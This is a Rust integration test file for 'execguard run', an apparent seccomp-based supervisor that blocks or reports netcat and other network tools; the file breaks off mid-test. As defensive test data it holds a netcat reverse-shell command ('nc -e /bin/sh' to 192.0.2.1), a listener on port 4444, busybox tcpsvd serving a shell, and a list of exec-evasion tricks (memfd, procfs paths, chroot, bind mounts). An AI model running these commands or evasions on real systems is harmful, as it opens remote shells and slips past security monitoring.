//! `execguard run` on the real kernel: real seccomp filters, real netcat (Debian's
//! netcat-openbsd), real shells. Each test starts the real binary, so a filter never lands
//! on the test process itself.

use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::process::CommandExt;
use std::path::PathBuf;
use std::process::{Command, Output, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use serde_json::Value;

/// A scratch directory in a writable location, as an attacker's would be: under /tmp
/// itself, not under TMPDIR, which can be anywhere (and need not be a place the policy
/// counts as writable).
struct Scratch(PathBuf);

impl Scratch {
    fn new() -> Scratch {
        static NEXT: AtomicUsize = AtomicUsize::new(0);
        let n = NEXT.fetch_add(1, Ordering::Relaxed);
        let dir = PathBuf::from(format!("/tmp/execguard-run-{}-{n}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("scratch dir");
        Scratch(dir)
    }
    fn path(&self, name: &str) -> PathBuf {
        self.0.join(name)
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

struct Run {
    output: Output,
    alerts: Vec<Value>,
}

impl Run {
    fn stdout(&self) -> String {
        String::from_utf8_lossy(&self.output.stdout).into_owned()
    }
    fn stderr(&self) -> String {
        String::from_utf8_lossy(&self.output.stderr).into_owned()
    }
    /// The alerts whose process ran `executable`.
    fn alerts_for(&self, executable: &str) -> Vec<&Value> {
        self.alerts.iter().filter(|a| a["process"]["executable"] == executable).collect()
    }
}

/// Runs `command` under `execguard run` with every alert written (no repeat window), and
/// fails the test if it does not finish within a minute: a stuck exec is a failure.
fn guarded(mode: &str, scratch: &Scratch, command: &[&OsStr], stack_bytes: Option<u64>) -> Run {
    guarded_with(&["--mode", mode], scratch, command, stack_bytes)
}

fn guarded_with(options: &[&str], scratch: &Scratch, command: &[&OsStr], stack_bytes: Option<u64>) -> Run {
    guarded_by(env!("CARGO_BIN_EXE_execguard").as_ref(), options, scratch, command, stack_bytes)
}

/// The same, with the execguard binary at `execguard`.
fn guarded_by(
    execguard: &std::path::Path,
    options: &[&str],
    scratch: &Scratch,
    command: &[&OsStr],
    stack_bytes: Option<u64>,
) -> Run {
    static RUNS: AtomicUsize = AtomicUsize::new(0);
    let alerts = scratch.path(&format!("alerts-{}.jsonl", RUNS.fetch_add(1, Ordering::Relaxed)));
    let mut cmd = Command::new(execguard);
    cmd.arg("run")
        .args(options)
        .args(["--repeat-window-secs", "0", "--alerts"])
        .arg(&alerts)
        .arg("--")
        .args(command)
        .current_dir(&scratch.0)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    if let Some(bytes) = stack_bytes {
        // A larger stack limit raises the kernel's limit on argv (a quarter of it).
        // SAFETY: setrlimit is async-signal-safe and touches only this child.
        unsafe {
            cmd.pre_exec(move || {
                let limit = libc::rlimit { rlim_cur: bytes, rlim_max: bytes };
                if libc::setrlimit(libc::RLIMIT_STACK, &limit) == 0 {
                    Ok(())
                } else {
                    Err(std::io::Error::last_os_error())
                }
            });
        }
    }
    let child = cmd.spawn().expect("start execguard run");
    let pid = child.id();
    let watchdog = std::thread::spawn(move || {
        std::thread::sleep(Duration::from_secs(60));
        // SAFETY: kill with a pid we started; at worst it is gone already.
        unsafe { libc::kill(pid as i32, libc::SIGKILL) };
    });
    let output = child.wait_with_output().expect("wait for execguard run");
    drop(watchdog);
    assert!(output.status.signal_or_code() != Some(-libc::SIGKILL), "execguard run hung and was killed");
    let text = std::fs::read_to_string(&alerts).unwrap_or_default();
    let alerts = text.lines().map(|l| serde_json::from_str(l).expect("alert line is JSON")).collect();
    Run { output, alerts }
}

trait StatusExt {
    fn signal_or_code(&self) -> Option<i32>;
}

impl StatusExt for std::process::ExitStatus {
    fn signal_or_code(&self) -> Option<i32> {
        use std::os::unix::process::ExitStatusExt;
        self.signal().map(|s| -s).or(self.code())
    }
}

fn sh(mode: &str, scratch: &Scratch, script: &str) -> Run {
    sh_with(&["--mode", mode], scratch, script)
}

/// `sh -c SCRIPT` under `execguard run OPTIONS`.
fn sh_with(options: &[&str], scratch: &Scratch, script: &str) -> Run {
    guarded_with(options, scratch, &[OsStr::new("/bin/sh"), OsStr::new("-c"), OsStr::new(script)], None)
}

const NC: &str = "/usr/bin/nc.openbsd";

#[test]
fn enforce_blocks_netcat_in_every_disguise_and_lets_the_rest_run() {
    let scratch = Scratch::new();
    let script = r#"
        ls / >/dev/null && echo ls=ok
        cat /etc/hostname >/dev/null && echo cat=ok
        nc -w1 192.0.2.1 9 2>&1; echo nc=$?
        sh -c 'nc -w1 192.0.2.1 9' 2>&1; echo sh-c-nc=$?
        ln -s /usr/bin/nc ./nc-link && ./nc-link 192.0.2.1 9 2>&1; echo link=$?
        cp /usr/bin/nc.openbsd ./x && ./x 192.0.2.1 9 2>&1; echo copy=$?
        nc -z localhost 1; echo nc-z=$?
        which nc; echo which=$?
    "#;
    let run = sh("enforce", &scratch, script);
    let out = run.stdout();
    for expected in
        ["ls=ok", "cat=ok", "nc=126", "sh-c-nc=126", "link=126", "copy=126", "nc-z=1", "/usr/bin/nc\nwhich=0"]
    {
        assert!(out.contains(expected), "missing {expected:?} in:\n{out}\nstderr:\n{}", run.stderr());
    }
    assert!(out.contains("nc: Operation not permitted") || run.stderr().contains("Operation not permitted"), "{out}");

    // The symlink and the copy were judged by the file they are, not the name they have.
    let copy = run.alerts_for(&scratch.path("x").display().to_string());
    assert!(!copy.is_empty(), "no alert for the renamed copy: {:#?}", run.alerts);
    assert_eq!(copy[0]["execguard"]["file"]["identity"], "nc");
    assert_eq!(copy[0]["execguard"]["file"]["writable_location"], true);
    assert_eq!(copy[0]["decision"], "block");
    let real = run.alerts_for(NC);
    assert!(real.iter().any(|a| a["process"]["args"] == serde_json::json!(["./nc-link", "192.0.2.1", "9"])));
    assert!(real.iter().all(|a| a["decision"] == "block"));
    // Allowed execs leave no record.
    assert!(run.alerts.iter().all(|a| a["process"]["name"] != "ls" && a["process"]["name"] != "which"));
}

#[test]
fn monitor_runs_everything_and_alerts_with_the_whole_context() {
    let scratch = Scratch::new();
    let run =
        sh("monitor", &scratch, "nc -w1 192.0.2.1 9; echo nc=$?; sh -c 'nc -w1 -e /bin/sh 192.0.2.1 9'; echo rce=$?");
    let out = run.stdout();
    // netcat really ran: it failed to connect (1), it was not refused (126).
    assert!(out.contains("nc=1") && out.contains("rce=1"), "{out}\n{}", run.stderr());
    let alerts = run.alerts_for(NC);
    assert!(alerts.len() >= 2, "{:#?}", run.alerts);
    let plain = alerts
        .iter()
        .find(|a| a["process"]["args"] == serde_json::json!(["nc", "-w1", "192.0.2.1", "9"]))
        .expect("plain nc alert");
    assert_eq!(plain["decision"], "alert");
    assert!(plain["reason"].as_str().unwrap_or("").contains("enforce mode would block"));
    assert_eq!(plain["process"]["parent"]["executable"], "/usr/bin/dash");
    assert_eq!(plain["process"]["parent"]["args"][1], "-c");
    assert_eq!(plain["process"]["working_directory"], scratch.0.display().to_string());
    assert!(plain["process"]["pid"].as_u64().is_some());
    let rce = alerts.iter().find(|a| a["rule"]["id"] == "falco.netcat_rce").expect("netcat RCE alert");
    // nc's parent is the inner sh -c; the outer sh is its ancestor.
    assert_eq!(rce["process"]["parent"]["args"][2], "nc -w1 -e /bin/sh 192.0.2.1 9");
    let ancestors = rce["execguard"]["ancestors"].as_array().expect("ancestors");
    assert!(ancestors.iter().any(|a| a["executable"] == "/usr/bin/dash"), "{ancestors:#?}");
}

/// A parent is described by what its exec was let through for only while it still runs
/// that: an exec that the kernel refused after the supervisor let it through (EACCES, the
/// file is not executable) leaves the process what it was, and its children are reported
/// with their real parent, not with the program of the failed exec.
#[test]
fn a_parent_whose_exec_failed_is_reported_as_what_it_still_runs() {
    use std::os::unix::fs::PermissionsExt;
    let scratch = Scratch::new();
    let exec_fails = compile(&scratch, "exec_fails");
    let impostor = scratch.path("impostor");
    std::fs::copy(&exec_fails, &impostor).unwrap();
    std::fs::set_permissions(&impostor, std::fs::Permissions::from_mode(0o644)).unwrap();
    let command = [exec_fails.as_os_str(), impostor.as_os_str(), OsStr::new(NC), OsStr::new("nc"), OsStr::new("-w1")]
        .into_iter()
        .chain(["192.0.2.1", "9"].map(OsStr::new));
    let run = guarded("monitor", &scratch, &command.collect::<Vec<_>>(), None);
    assert!(run.stdout().contains(&format!("exec failed: {}", libc::EACCES)), "{}\n{}", run.stdout(), run.stderr());
    let alerts = run.alerts_for(NC);
    let parent = &alerts.first().unwrap_or_else(|| panic!("no alert for nc: {:#?}", run.alerts))["process"]["parent"];
    assert_eq!(parent["executable"], exec_fails.display().to_string(), "{parent:#}");
    assert_eq!(parent["args"][1], impostor.display().to_string(), "its own argv, not the failed exec's: {parent:#}");
}

#[test]
fn a_blocked_command_exits_126_with_the_reason() {
    let scratch = Scratch::new();
    let run = guarded("enforce", &scratch, &[OsStr::new("nc"), OsStr::new("-lp"), OsStr::new("4444")], None);
    assert_eq!(run.output.status.code(), Some(126));
    assert!(run.stderr().contains("blocked by the policy"), "{}", run.stderr());
    assert_eq!(run.alerts[0]["rule"]["id"], "datadog.netcat_shell");
}

#[test]
fn exit_status_and_signals_come_through() {
    let scratch = Scratch::new();
    assert_eq!(sh("enforce", &scratch, "exit 7").output.status.code(), Some(7));
    assert_eq!(sh("enforce", &scratch, "kill -TERM $$").output.status.code(), Some(128 + libc::SIGTERM));
}

fn compile_thread_exec(scratch: &Scratch) -> PathBuf {
    compile(scratch, "thread_exec")
}

/// Builds one of the C programs in tests/programs.
fn compile(scratch: &Scratch, name: &str) -> PathBuf {
    let source = format!("{}/tests/programs/{name}.c", env!("CARGO_MANIFEST_DIR"));
    let binary = scratch.path(name);
    let status = Command::new("cc").args(["-O2", "-pthread", "-o"]).arg(&binary).arg(&source).status();
    assert!(status.is_ok_and(|s| s.success()), "cannot compile {source}: install a C compiler (scripts/test does)");
    binary
}

#[test]
fn a_thread_that_execs_is_supervised_like_any_process() {
    let scratch = Scratch::new();
    let helper = compile_thread_exec(&scratch);
    let helper = helper.to_str().unwrap();
    let script = format!("{helper} wait /bin/echo echo from-thread; {helper} wait {NC} nc -w1 192.0.2.1 9; echo nc=$?");
    let run = sh("enforce", &scratch, &script);
    let out = run.stdout();
    assert!(out.contains("from-thread"), "{out}");
    assert!(out.contains("exec failed: Operation not permitted") && out.contains("nc=126"), "{out}");
    assert!(!run.alerts_for(NC).is_empty());
}

#[test]
fn processes_that_die_mid_inspection_never_stall_the_supervisor() {
    let scratch = Scratch::new();
    let helper = compile_thread_exec(&scratch);
    // 300 processes end themselves while their exec waits or is being inspected, at
    // delays from 0 to 300 us; then a normal exec must still be served.
    let script = format!(
        "i=0; while [ $i -lt 300 ]; do DIE_US=$i {} die {NC} nc -w1 192.0.2.1 9; i=$((i+1)); done; echo still-served",
        helper.display()
    );
    let run = sh("enforce", &scratch, &script);
    assert!(run.stdout().contains("still-served"), "{}\n{}", run.stdout(), run.stderr());
    assert_eq!(run.output.status.code(), Some(0));
}

#[test]
fn arguments_that_are_not_utf8_or_megabytes_long() {
    let scratch = Scratch::new();
    let invalid = OsStr::from_bytes(b"-\xff\xfe");
    let echo = guarded("enforce", &scratch, &[OsStr::new("/bin/echo"), invalid], None);
    assert_eq!(echo.output.stdout, b"-\xff\xfe\n", "the exec must receive its bytes unchanged");
    let nc = guarded("enforce", &scratch, &[OsStr::new(NC), invalid, OsStr::new("192.0.2.1")], None);
    assert_eq!(nc.output.status.code(), Some(126));
    assert_eq!(nc.alerts[0]["process"]["args"][1], "-\u{fffd}\u{fffd}");

    // 32 arguments of 100 KiB: 3.2 MB, past the supervisor's 256 KiB of argv.
    let big = "x".repeat(100 * 1024);
    let mut command: Vec<&OsStr> = vec![OsStr::new("/bin/true")];
    command.extend(std::iter::repeat_n(OsStr::new(&big), 32));
    let stack = Some(256 * 1024 * 1024);
    let allowed = guarded("enforce", &scratch, &command, stack);
    assert_eq!(allowed.output.status.code(), Some(0), "{}", allowed.stderr());
    command[0] = OsStr::new(NC);
    let blocked = guarded("enforce", &scratch, &command, stack);
    assert_eq!(blocked.output.status.code(), Some(126));
    let alert = &blocked.alerts[0];
    assert_eq!(alert["execguard"]["args_truncated"], true);
    assert_eq!(alert["rule"]["id"], "execguard.net_util_args_truncated");
    let kept: usize = alert["process"]["args"].as_array().unwrap().iter().map(|a| a.as_str().unwrap().len()).sum();
    assert!(kept <= 256 * 1024, "{kept} bytes of argv kept");
}

#[test]
fn a_tree_fifty_deep() {
    let scratch = Scratch::new();
    let deep = scratch.path("deep.sh");
    std::fs::write(&deep, "if [ \"$1\" -gt 0 ]; then sh \"$0\" $(($1 - 1)); else ls / >/dev/null && echo bottom=ok; nc -w1 192.0.2.1 9; echo nc=$?; fi\n").unwrap();
    let deep = deep.display().to_string();
    let run = sh("monitor", &scratch, &format!("sh {deep} 50"));
    assert!(run.stdout().contains("bottom=ok") && run.stdout().contains("nc=1"), "{}", run.stdout());
    let alert = run.alerts_for(NC).into_iter().find(|a| a["decision"] == "alert").expect("nc alert").clone();
    // The script in /tmp that started it is what makes it suspicious.
    assert_eq!(alert["rule"]["id"], "datadog.net_util_in_container.writable_ancestor");
    assert_eq!(alert["process"]["parent"]["args"], serde_json::json!(["sh", deep, "0"]));
    assert_eq!(alert["execguard"]["ancestors"].as_array().map(Vec::len), Some(16), "the depth limit");
}

/// A script named by a relative path is found through its process's working directory
/// (read only for such a script), and an alert names the directory of every process above.
#[test]
fn a_relative_script_in_a_writable_directory_is_found_through_its_directory() {
    let scratch = Scratch::new();
    std::fs::write(scratch.path("drop.sh"), "nc -w1 192.0.2.1 9; echo nc=$?\n").unwrap();
    let run = sh("monitor", &scratch, "sh ./drop.sh");
    assert!(run.stdout().contains("nc=1"), "{}", run.stdout());
    let alert = run.alerts_for(NC).into_iter().find(|a| a["decision"] == "alert").expect("nc alert").clone();
    assert_eq!(alert["rule"]["id"], "datadog.net_util_in_container.writable_ancestor");
    let directory = scratch.0.display().to_string();
    assert_eq!(alert["process"]["parent"]["args"], serde_json::json!(["sh", "./drop.sh"]));
    assert_eq!(alert["process"]["parent"]["working_directory"], directory.as_str());
    // `sh -c`, which runs no script: its directory is read for the alert.
    assert_eq!(alert["execguard"]["ancestors"][0]["working_directory"], directory.as_str());
}

#[test]
fn two_thousand_execs_leak_no_fds_and_little_memory() {
    let scratch = Scratch::new();
    // $PPID of the script is the supervisor (execguard run itself). Its fds are counted by
    // the shell's own glob: `ls | wc` would count them while wc's exec is inspected, with
    // that inspection's fds open. The supervisor closes an exec's files just after its
    // answer, so each count follows a sleep: by its end, sleep's files are closed.
    let script = r#"
        fds() { sleep 0.2; set -- /proc/$PPID/fd/*; echo $#; }
        rss() { awk '/^VmRSS:/ { print $2 }' /proc/$PPID/status; }
        /bin/true; f0=$(fds); r0=$(rss)
        i=0; while [ $i -lt 2000 ]; do /bin/true; i=$((i+1)); done
        echo fds $f0 $(fds); echo rss $r0 $(rss)
    "#;
    let run = sh("enforce", &scratch, script);
    let out = run.stdout();
    let numbers = |label: &str| -> (i64, i64) {
        let line = out
            .lines()
            .find(|l| l.starts_with(label))
            .unwrap_or_else(|| panic!("no {label} in {out}\n{}", run.stderr()));
        let values: Vec<i64> = line.split_whitespace().skip(1).filter_map(|v| v.parse().ok()).collect();
        assert_eq!(values.len(), 2, "{out}\n{}", run.stderr());
        (values[0], values[1])
    };
    let (fds_before, fds_after) = numbers("fds");
    assert_eq!(fds_before, fds_after, "the supervisor leaks fds");
    let (rss_before, rss_after) = numbers("rss");
    assert!(rss_after - rss_before < 2048, "the supervisor grew by {} KiB over 2000 execs", rss_after - rss_before);
}

/// A process that stalls its own inspection (argv in a userfaultfd page that it fills only
/// later) gets the fail action at the deadline, and the supervisor goes on serving.
#[test]
fn an_exec_that_cannot_be_inspected_in_time_gets_the_fail_action() {
    let scratch = Scratch::new();
    let stall = compile(&scratch, "stall_exec");
    let script = format!("{} 1500 /bin/echo echo stalled; echo rc=$?; echo after", stall.display());
    // Fail-closed refuses it and kills the process: its stalled read would otherwise keep
    // a receiver for as long as the process likes.
    let closed = sh_with(&["--deadline-ms", "300", "--fail", "closed"], &scratch, &script);
    let out = closed.stdout();
    assert!(out.contains("rc=137\nafter"), "{out}\n{}", closed.stderr());
    assert_eq!(closed.alerts.len(), 1, "{:#?}", closed.alerts);
    assert_eq!(closed.alerts[0]["decision"], "block");
    let reason = closed.alerts[0]["reason"].as_str().unwrap_or("");
    assert!(reason.contains("no decision within 300ms") && reason.contains("the process killed"), "{reason}");

    // Fail-open lets it through at the deadline; the kernel's own copy of argv then waits
    // for the page like the supervisor did, and the exec runs with the real argument.
    let open = sh_with(&["--deadline-ms", "300", "--fail", "open"], &scratch, &script);
    let out = open.stdout();
    assert!(out.contains("stalled\nrc=0\nafter"), "{out}\n{}", open.stderr());
    assert_eq!(open.alerts[0]["decision"], "alert");
}

/// While one process stalls its inspection, the other execs of the tree go on: the
/// watchdog gives them a new receiver after 10 ms, long before the stalled exec gets the
/// fail action (at the 1 s deadline, where fail-closed kills the process: its stalled read
/// returns only when it exits). Served by the stuck receiver, "other" would never come.
#[test]
fn a_stalled_inspection_does_not_hold_up_other_execs() {
    let scratch = Scratch::new();
    let stall = compile(&scratch, "stall_exec");
    let script = format!("{} 3000 /bin/echo echo stalled & sleep 0.3; /bin/echo other; wait", stall.display());
    let run = sh_with(&["--deadline-ms", "1000", "--fail", "closed"], &scratch, &script);
    let out = run.stdout();
    assert!(out.contains("other\n"), "{out}\n{}", run.stderr());
    assert!(!out.contains("stalled"), "{out}");
    assert!(run.stderr().contains("a new receiver serves the other execs"), "{}", run.stderr());
    assert_eq!(run.alerts.len(), 1, "{:#?}", run.alerts);
    assert_eq!(run.alerts[0]["decision"], "block");
}

/// Any number of processes that stall their own inspection at once (here 40, with the
/// bound on stuck receivers at 16) hold up no unrelated exec past the deadline: once every
/// receiver it may keep is stuck, the next execs get the fail action without inspection,
/// and at the deadline each stalled process is refused and killed (fail-closed), which
/// ends its stalled read. The stalls would last 20 s; the whole run takes about the 1 s
/// deadline.
#[test]
fn any_number_of_stalls_holds_up_no_exec_past_the_deadline() {
    let scratch = Scratch::new();
    let stall = compile(&scratch, "stall_exec");
    let script = format!(
        // `read` and `echo` are the shell's own: only /bin/echo is an exec between t0 and t1.
        "for i in $(seq 40); do {} 20000 /bin/echo echo stalled & done; sleep 0.3; \
         read t0 _ </proc/uptime; /bin/echo other; echo other=$?; read t1 _ </proc/uptime; echo took $t0 $t1; wait",
        stall.display()
    );
    let started = Instant::now();
    let run = sh_with(&["--deadline-ms", "1000", "--fail", "closed"], &scratch, &script);
    let took = started.elapsed();
    let (out, stderr) = (run.stdout(), run.stderr());
    assert!(took < Duration::from_secs(6), "took {took:?}\n{out}\n{stderr}");
    let (t0, t1) = out
        .lines()
        .find_map(|l| l.strip_prefix("took ")?.split_once(' '))
        .map(|(a, b)| (a.parse::<f64>().unwrap(), b.parse::<f64>().unwrap()))
        .expect("the times");
    // /proc/uptime counts in 10 ms: the deadline (1 s) plus a small margin.
    assert!(t1 - t0 <= 1.1, "the unrelated exec waited {:.2} s behind 40 stalls\n{out}\n{stderr}", t1 - t0);
    eprintln!("the unrelated exec waited {:.2} s", t1 - t0);
    // Inspected by a free receiver, or answered uninspected: either way, at once.
    assert!(out.contains("other\nother=0") || stderr.contains("/bin/echo: Operation not permitted"), "{out}\n{stderr}");
    assert_eq!(out.matches("stalled\n").count(), 0, "no stalled exec ran: {out}");
    // Said when the bound is reached, not per exec: once, or again for stallers that a
    // slow machine started after the first ones were killed (40 stallers, 16 receivers).
    let said = stderr.matches("every receiver is stuck").count();
    assert!((1..=3).contains(&said), "said {said} times for 40 stallers: {stderr}");
    let uninspected =
        run.alerts.iter().filter(|a| a["reason"].as_str().unwrap_or("").starts_with("not inspected")).count();
    let killed =
        run.alerts.iter().filter(|a| a["reason"].as_str().unwrap_or("").contains("the process killed")).count();
    let refused =
        run.alerts.iter().filter(|a| a["reason"].as_str().unwrap_or("").contains("blocked (fail-closed)")).count();
    // The 16 that stalled a receiver each are killed at the deadline; the execs that came
    // while they did (the shell's too) were answered uninspected; any inspected by the
    // receiver that went on is refused at the deadline. Every one is reported.
    assert!(uninspected >= 1, "{:#?}", run.alerts);
    assert!(uninspected + killed + refused >= 40, "{:#?}", run.alerts);
    assert!(killed >= 16, "the stalled ones are refused and killed at the deadline: {killed}");
}

/// A panic in one inspection (injected: debug builds only) ends neither the receiver nor
/// the supervision: the exec it was on gets the fail action at its deadline, and the
/// next execs are decided as before.
#[test]
fn a_panicking_inspection_leaves_the_other_execs_decided() {
    let script = "/bin/echo first; echo rc=$?; ls / >/dev/null && echo ls=ok; /usr/bin/nc -h 2>/dev/null; echo nc=$?";
    let mut command = Command::new(env!("CARGO_BIN_EXE_execguard"));
    command
        .args(["run", "--deadline-ms", "500", "--repeat-window-secs", "0", "--", "/bin/sh", "-c", script])
        .env("EXECGUARD_TEST_PANIC_ON_EXEC", "/bin/echo")
        .stdin(Stdio::null());
    let started = Instant::now();
    let output = command.output().expect("run execguard");
    let (out, err) = (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    assert!(started.elapsed() < Duration::from_secs(5), "{out}\n{err}");
    assert!(err.contains("an inspection panicked"), "{err}");
    assert!(out.contains("rc=126\nls=ok\nnc=126"), "echo refused at its deadline, ls and nc decided:\n{out}\n{err}");
}

/// What a block holds against: every other way of asking the kernel to run netcat is
/// decided the same (execveat, fexecve, a memfd copy, /proc/self/fd, the i386 entry point,
/// the dynamic loader), and monitor mode shows that each way really runs it.
#[test]
fn blocks_hold_against_every_way_of_naming_the_file() {
    let scratch = Scratch::new();
    let evasions = compile(&scratch, "evasions");
    // The spellings of paths into procfs, links that lead there, and working directories
    // that have no usable text (deeper than PATH_MAX, on a detached mount) are followed as
    // the kernel follows them: each is the file netcat, and refused.
    let methods = [
        "execveat",
        "fexecve",
        "memfd",
        "proc-self-fd",
        "proc-slashes",
        "proc-dots",
        "dev-fd",
        "thread-self",
        "proc-pid-fd",
        "dev-stdin",
        "symlink-to-proc",
        "proc-root",
        "proc-cwd",
        "deep-cwd",
        "detached-cwd",
        "i386",
        "loader",
    ];
    let command = [evasions.as_os_str(), OsStr::new(NC), OsStr::new("-w1"), OsStr::new("192.0.2.1"), OsStr::new("9")];
    let enforce = guarded("enforce", &scratch, &command, None);
    let out = enforce.stdout();
    for method in methods {
        assert!(
            out.contains(&format!("{method} refused: Operation not permitted\n{method} exit=126")),
            "{method}:\n{out}"
        );
    }
    let fileless: Vec<&Value> = enforce.alerts.iter().filter(|a| a["execguard"]["file"]["fileless"] == true).collect();
    assert!(fileless.len() >= 9, "the memfd runs are fileless: {:#?}", enforce.alerts);
    assert!(enforce.alerts.iter().all(|a| a["execguard"]["file"]["identity"] == "nc"), "{:#?}", enforce.alerts);
    assert!(fileless.iter().all(|a| a["execguard"]["file"]["identity"] == "nc"));
    let monitor = guarded("monitor", &scratch, &command, None);
    for method in methods {
        assert!(
            monitor.stdout().contains(&format!("{method} exit=1")),
            "{method} did not run nc:\n{}",
            monitor.stdout()
        );
    }
}

/// The supervisor resolves paths in a root it opened once per filter, until a process
/// could have changed roots (supervisor/src/inspect.rs, RootChanges). Each way of
/// getting another root below makes /usr/bin/ls be netcat there and only there, in a run
/// of its own (the first change switches the whole filter to per-exec roots): judged in
/// the stale root it would be ls and allowed, and then fail with 127 (a copy of netcat
/// without its libraries) or run netcat (1).
#[test]
fn a_changed_root_cannot_pass_netcat_off_as_ls() {
    let scratch = Scratch::new();
    let chroot = format!(
        "mkdir -p root/usr/bin && cp {NC} root/usr/bin/ls && ls >/dev/null && chroot ./root /usr/bin/ls 192.0.2.1 9; \
         echo status=$?"
    );
    let unshare =
        format!("ls >/dev/null; unshare -m sh -c 'mount --bind {NC} /usr/bin/ls && ls 192.0.2.1 9; echo status=$?'");
    for (how, script) in [("chroot", chroot), ("unshare and a bind mount", unshare)] {
        let run = sh("enforce", &scratch, &script);
        assert!(run.stdout().contains("status=126"), "{how}: {}\n{}", run.stdout(), run.stderr());
        let blocked = run.alerts_for("/usr/bin/ls");
        assert!(!blocked.is_empty(), "{how}: {:#?}", run.alerts);
        assert_eq!(blocked[0]["execguard"]["file"]["identity"], "nc", "{how}");
        assert_eq!(blocked[0]["decision"], "block", "{how}");
    }

    // setns: into a mount namespace made outside the supervised tree.
    let mut holder = Command::new("unshare")
        .args(["-m", "--propagation", "private", "sh", "-c"])
        .arg(format!("mount --bind {NC} /usr/bin/ls && echo ready && exec sleep 60"))
        .stdout(Stdio::piped())
        .spawn()
        .expect("start a mount namespace");
    let mut ready = [0u8; 6];
    let read = std::io::Read::read_exact(holder.stdout.as_mut().expect("holder's stdout"), &mut ready);
    assert!(read.is_ok() && &ready == b"ready\n", "the namespace holder did not get ready");
    let target = holder.id().to_string();
    let command = ["nsenter", "-t", &target, "-m", "/usr/bin/ls", "192.0.2.1", "9"].map(OsStr::new);
    let run = guarded("enforce", &scratch, &command, None);
    let _ = holder.kill();
    let _ = holder.wait();
    assert_eq!(run.output.status.code(), Some(126), "setns: {}", run.stderr());
    assert_eq!(run.alerts_for("/usr/bin/ls")[0]["execguard"]["file"]["identity"], "nc", "{:#?}", run.alerts);
}

/// An Alpine-style layout: everyday commands and network tools are links to, or copies
/// of, one busybox. Everyday applets run in enforce mode and leave no alert; network
/// applets are decided as the tools they are, under any name busybox takes for itself.
#[test]
fn busybox_applets_are_decided_as_the_applet_that_runs() {
    assert!(std::path::Path::new("/bin/busybox").exists(), "needs Debian's busybox-static (scripts/test installs it)");
    let scratch = Scratch::new();
    let script = r#"
        mkdir bin copy
        for applet in sleep ls echo nc wget busybox-x86_64; do ln -s /bin/busybox bin/$applet; done
        cp /bin/busybox copy/bb && ln -s bb copy/true && ln -s bb copy/nc
        bin/sleep 0 && echo sleep=ok
        bin/ls / >/dev/null && echo ls=ok
        bin/echo hi >/dev/null && echo echo=ok
        copy/true && echo copy-true=ok
        bin/nc -w1 192.0.2.1 9 2>&1; echo nc=$?
        copy/nc -w1 192.0.2.1 9 2>&1; echo copy-nc=$?
        /bin/busybox nc -w1 192.0.2.1 9 2>&1; echo busybox-nc=$?
        bin/busybox-x86_64 nc -w1 192.0.2.1 9 2>&1; echo prefixed-nc=$?
        bin/sleep 0 && /bin/busybox --help nc >/dev/null 2>&1; echo help=$?
        bin/nc -z 127.0.0.1 1 2>&1; echo nc-z=$?
        /bin/busybox tcpsvd 127.0.0.1 0 /bin/sh 2>&1; echo tcpsvd=$?
        /bin/busybox pscan 192.0.2.1 2>&1; echo pscan=$?
    "#;
    let run = sh("enforce", &scratch, script);
    let out = run.stdout();
    for expected in [
        "sleep=ok",
        "ls=ok",
        "echo=ok",
        "copy-true=ok",
        "nc=126",
        "copy-nc=126",
        "busybox-nc=126",
        "prefixed-nc=126",
        "help=0",
        "nc-z=1",
        "tcpsvd=126",
        "pscan=126",
    ] {
        assert!(out.contains(expected), "missing {expected:?} in:\n{out}\nstderr:\n{}", run.stderr());
    }
    for alert in &run.alerts {
        let name = alert["process"]["name"].as_str().unwrap_or("");
        assert!(["nc", "tcpsvd", "pscan"].contains(&name), "only network applets are reported: {alert:#}");
        assert_eq!(alert["execguard"]["file"]["identity"], "busybox", "{alert:#}");
        assert_eq!(alert["decision"], "block", "{alert:#}");
    }
    assert_eq!(run.alerts.len(), 6, "{:#?}", run.alerts);

    // Monitor mode reports the network applet, and nothing else, as what it is.
    let run = sh("monitor", &scratch, "bin/sleep 0; bin/ls >/dev/null; bin/nc -w1 192.0.2.1 9; echo done");
    assert!(run.stdout().contains("done"), "{}", run.stderr());
    let names: Vec<&Value> = run.alerts.iter().map(|a| &a["process"]["name"]).collect();
    assert_eq!(names, ["nc"], "{:#?}", run.alerts);
}

/// The lineage stops at the guarded tree: `execguard run` (installed here in a writable
/// directory, as under /home or /tmp) is no parent of the command, and never makes the
/// command a tool "started from a writable directory".
#[test]
fn the_process_that_runs_execguard_is_not_in_the_lineage() {
    let scratch = Scratch::new();
    let execguard = scratch.path("execguard");
    std::fs::copy(env!("CARGO_BIN_EXE_execguard"), &execguard).expect("copy execguard");
    let curl = ["curl", "-s", "--connect-timeout", "1", "http://192.0.2.1:9/"].map(OsStr::new);
    let run = guarded_by(&execguard, &["--mode", "enforce"], &scratch, &curl, None);
    // curl ran and failed to connect (7, or 28 where the address is dropped); it was not
    // refused (126).
    let status = run.output.status.code();
    assert!(matches!(status, Some(7 | 28)), "{status:?} {}\n{:#?}", run.stderr(), run.alerts);
    let alert = run.alerts.first().expect("curl is alerted");
    assert_eq!(alert["decision"], "alert", "{alert:#}");
    assert_eq!(alert["rule"]["id"], "datadog.net_util_in_container", "{alert:#}");
    assert!(alert["process"].get("parent").is_none_or(Value::is_null), "the top has no parent: {alert:#}");
    assert!(alert["execguard"]["ancestors"].as_array().is_none_or(Vec::is_empty), "{alert:#}");

    // Below the top, the lineage is the tree's own: the shell is curl's parent.
    let script = [
        OsStr::new("/bin/sh"),
        OsStr::new("-c"),
        OsStr::new("curl -s --connect-timeout 1 http://192.0.2.1:9/; exit 0"),
    ];
    let run = guarded_by(&execguard, &["--mode", "enforce"], &scratch, &script, None);
    let alert = run.alerts.first().expect("curl is alerted");
    assert_eq!(alert["process"]["parent"]["executable"], "/usr/bin/dash", "{alert:#}");
    assert!(alert["execguard"]["ancestors"].as_array().is_none_or(Vec::is_empty), "{alert:#}");
}

/// Loopback exemptions look at where the tool will connect, parsed as the tool parses
/// its command line, not at text anywhere in argv.
#[test]
fn loopback_exemptions_follow_the_destination() {
    let scratch = Scratch::new();
    let script = r#"
